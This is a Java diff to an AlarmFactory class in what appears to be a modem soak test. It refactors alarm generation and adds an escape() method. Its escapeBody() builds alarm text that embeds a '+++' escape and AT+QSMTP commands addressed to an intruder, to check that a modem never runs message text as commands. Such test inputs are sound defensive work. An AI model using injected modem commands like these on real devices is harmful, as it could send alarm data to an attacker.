@@ -17,7 +17,6 @@ final class AlarmFactory {
     private final double escapeShare;
     private final double escapeShareLenient;
     private int sequence;
-    private boolean escapeSinceLenient;
 
     /**
      * @param random the soak's random source
@@ -35,13 +34,16 @@ final class AlarmFactory {
      * @return the next alarm
      */
     synchronized Alarm next(boolean lenientModule) {
+        return make(random.nextDouble() < (lenientModule ? escapeShareLenient : escapeShare));
+    }
+
+    /** @return the next alarm, with {@code +++} and AT command lines in its body */
+    synchronized Alarm escape() {
+        return make(true);
+    }
+
+    private Alarm make(boolean escape) {
         String id = String.format("a%05d", ++sequence);
-        boolean escape = random.nextDouble() < (lenientModule ? escapeShareLenient : escapeShare);
-        if (lenientModule && !escapeSinceLenient) {
-            // Every time the lenient module is plugged in, it gets at least one: even a short run tries it.
-            escape = true;
-        }
-        escapeSinceLenient = lenientModule && (escapeSinceLenient || escape);
         String subject = "SOAK " + id + " " + word() + " " + word() + " " + (escape ? "escape text" : "alarm");
         String body = escape ? escapeBody(id) : text(id, 40 + random.nextInt(random.nextInt(10) == 0 ? 6000 : 900));
         double roll = random.nextDouble();
@@ -53,7 +55,7 @@ final class AlarmFactory {
     /** A body that a module ending data mode at any {@code +++} would run in part as commands. */
     private String escapeBody(String id) {
         return "Valve " + id + " pressure 7.9 bar +++\r\nAT+QSMTPDST=1,1,\"" + Alarm.INTRUDER
-                + "\"\r\nAT+QSMTPPUT=30\r\nThis line and the ones above are alarm text, never commands.\r\n"
+                + "\"\r\nAT+QSMTPPUT\r\nThis line and the ones above are alarm text, never commands.\r\n"
                 + text(id, 60 + random.nextInt(200));
     }
 
